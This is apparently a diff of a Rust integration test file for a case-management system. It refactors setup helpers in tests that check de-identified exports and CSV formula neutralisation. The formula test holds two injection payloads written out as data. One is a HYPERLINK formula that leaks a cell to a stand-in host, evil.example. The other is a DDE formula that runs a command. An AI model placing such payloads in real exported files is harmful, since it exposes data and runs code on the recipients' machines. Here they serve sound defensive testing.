@@ -10,18 +10,25 @@ use common::TestApp;
 use diesel::prelude::*;
 use serde_json::{json, Value};
 
-/// Every direct identifier the referral `data` holds (names, addresses,
-/// phone numbers…), as the form marks them.
-fn direct_values(data: &Value) -> Vec<String> {
+/// The fields of a shipped form.
+fn shipped_fields(form_id: &str) -> Vec<casesync::forms::model::Field> {
     let set = definitions::shipped();
     let file = set
         .forms
         .iter()
-        .find(|f| f.document["x-form"]["id"] == "kz.referral")
+        .find(|f| f.document["x-form"]["id"] == form_id)
         .unwrap();
-    let form = check::check(&file.document, &set.resources).unwrap();
+    check::check(&file.document, &set.resources).unwrap().fields
+}
+
+/// Every direct identifier the referral `data` holds (names, addresses,
+/// phone numbers…), as the form marks them.
+fn direct_values(data: &Value) -> Vec<String> {
     let mut out = Vec::new();
-    for field in form.fields.iter().filter(|f| f.pii == Some(Pii::Direct)) {
+    for field in shipped_fields("kz.referral")
+        .iter()
+        .filter(|f| f.pii == Some(Pii::Direct))
+    {
         for (_, value) in field.values_in(data) {
             fn strings(v: &Value, out: &mut Vec<String>) {
                 match v {
@@ -71,13 +78,20 @@ fn is_pseudonym(cell: &str) -> bool {
     cell.len() == 16 && cell.bytes().all(|b| b.is_ascii_hexdigit())
 }
 
-#[test]
-fn form_exports_are_deidentified_unless_a_coordinator_states_a_purpose() {
-    let app = TestApp::spawn();
+/// Tokens of an admin, a field worker, a coordinator and an analyst of
+/// the Almaty centre.
+fn almaty_staff(app: &TestApp) -> [String; 4] {
     let admin = app.admin_token();
     let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
     let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA"]);
     let (_, analyst) = app.user(&admin, "analyst", "analyst", &["KZ-CAM-ALA"]);
+    [admin, worker, coordinator, analyst]
+}
+
+#[test]
+fn form_exports_are_deidentified_unless_a_coordinator_states_a_purpose() {
+    let app = TestApp::spawn();
+    let [admin, worker, coordinator, analyst] = almaty_staff(&app);
     let phone = phone(&app, &worker);
 
     let first = uuid::Uuid::new_v4().to_string();
@@ -682,10 +696,7 @@ fn cell_of<'a>(columns: &[String], record: &'a csv::StringRecord, name: &str) ->
 #[test]
 fn formulas_are_neutralised_in_every_csv_unless_a_script_asks() {
     let app = TestApp::spawn();
-    let admin = app.admin_token();
-    let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
-    let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA"]);
-    let (_, analyst) = app.user(&admin, "analyst", "analyst", &["KZ-CAM-ALA"]);
+    let [admin, worker, coordinator, analyst] = almaty_staff(&app);
     let phone = phone(&app, &worker);
     let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
     let calc = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -888,13 +899,6 @@ fn formulas_are_neutralised_in_every_csv_unless_a_script_asks() {
 /// references, file names) of `form_id`, as its fields are classed.
 fn identifying_and_free_text(form_id: &str, data: &Value) -> Vec<String> {
     use casesync::exports::columns::Class;
-    let set = definitions::shipped();
-    let file = set
-        .forms
-        .iter()
-        .find(|f| f.document["x-form"]["id"] == form_id)
-        .unwrap();
-    let form = check::check(&file.document, &set.resources).unwrap();
     fn strings(v: &Value, out: &mut Vec<String>) {
         match v {
             // Codes (`mother`, `other`) are choices' values, kept by right.
@@ -912,7 +916,7 @@ fn identifying_and_free_text(form_id: &str, data: &Value) -> Vec<String> {
         }
     }
     let mut out = Vec::new();
-    for field in &form.fields {
+    for field in &shipped_fields(form_id) {
         if matches!(
             Class::of(field.pii, field.kind),
             Class::Direct | Class::FreeText
